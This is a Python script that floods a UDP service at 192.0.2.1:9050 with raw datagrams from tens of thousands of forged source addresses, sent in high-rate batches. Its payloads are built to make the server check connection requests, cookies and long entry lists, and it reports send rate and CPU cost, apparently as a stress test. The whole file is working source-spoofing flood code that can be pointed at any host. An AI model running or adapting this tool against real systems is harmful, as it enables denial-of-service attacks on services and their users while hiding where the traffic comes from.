"""
flood.py KIND COUNT RATE: sends COUNT datagrams to 192.0.2.1:9050 from 60,000 forged addresses, RATE a second, in batches of one system call.

KIND is a name below, or several with commas between, in turn. Prints what was sent and what it cost.
"""
import ctypes
import errno
import os
import random
import socket
import struct
import sys
import time

BATCH = 64
PREPARED = 4096
SERVER = 0xC0000201

random.seed(1)
KEY = bytes([6, 0]) + b"ecs/2"
REQUEST = bytes([6, 13, 0, 0, 0]) + bytes(12) + bytes([16]) + bytes([2]) + bytes(15)
KINDS = {
    # Bytes without a meaning.
    "noise": lambda: os.urandom(random.randint(1, 200)),
    # A request to connect, which is answered with a cookie.
    "connect": lambda: REQUEST + KEY,
    # One with a cookie, which is looked at, found wrong, and answered with another one.
    "cookie": lambda: REQUEST + KEY + b"ECK1" + os.urandom(16),
    # Lists of the shortest entries, each of which is looked at.
    "list": lambda: bytes([13]) + bytes([1, 0, 3]) * 470,
    # What a client at a new address says, and its proof of who it is.
    "stray": lambda: bytes([0]) + os.urandom(60),
    "proof": lambda: bytes([15]) + os.urandom(14),
    # As long as a datagram gets here.
    "long": lambda: bytes([1]) + os.urandom(1431),
}


class IoVector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


class Message(ctypes.Structure):
    _fields_ = [
        ("name", ctypes.c_void_p), ("name_length", ctypes.c_uint), ("vectors", ctypes.c_void_p), ("vector_count", ctypes.c_size_t),
        ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t), ("flags", ctypes.c_int),
    ]


class Sent(ctypes.Structure):
    _fields_ = [("message", Message), ("bytes", ctypes.c_uint)]


def datagram(number, payload):
    source = 0x0A000000 + number * 14 % 60000
    udp = struct.pack("!HHHH", 1024 + number * 11 % 50000, 9050, 8 + len(payload), 0) + payload
    return struct.pack("!BBHHHBBHLL", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source, SERVER) + udp


def main():
    kinds, count, rate = sys.argv[1].split(","), int(sys.argv[2]), int(sys.argv[3])
    libc = ctypes.CDLL("libc.so.6", use_errno=True)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    to = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!HL", 0, SERVER) + bytes(8), 16)
    kept, vectors, messages = [], (IoVector * PREPARED)(), (Sent * PREPARED)()
    for number in range(PREPARED):
        content = datagram(number, KINDS[kinds[number % len(kinds)]]())
        kept.append(ctypes.create_string_buffer(content, len(content)))
        vectors[number] = IoVector(ctypes.addressof(kept[-1]), len(content))
        messages[number].message.name = ctypes.addressof(to)
        messages[number].message.name_length = 16
        messages[number].message.vectors = ctypes.addressof(vectors[number])
        messages[number].message.vector_count = 1

    began = time.monotonic()
    sent = 0
    while sent < count:
        at = sent % PREPARED
        taken = libc.sendmmsg(raw.fileno(), ctypes.byref(messages[at]), min(BATCH, PREPARED - at), 0)
        if taken < 0:
            fault = ctypes.get_errno()
            if fault not in (errno.ENOBUFS, errno.EAGAIN):
                raise OSError(fault, os.strerror(fault))
            continue
        sent += taken
        ahead = sent / rate - (time.monotonic() - began)
        if ahead > 0.0005:
            time.sleep(ahead)
    seconds = time.monotonic() - began
    cost = sum(os.times()[:2])
    print(f"{sent} datagrams ({sys.argv[1]}) in {seconds:.1f} s, {sent / seconds:.0f} a second, {100 * cost / seconds:.0f} % of a core")


main()
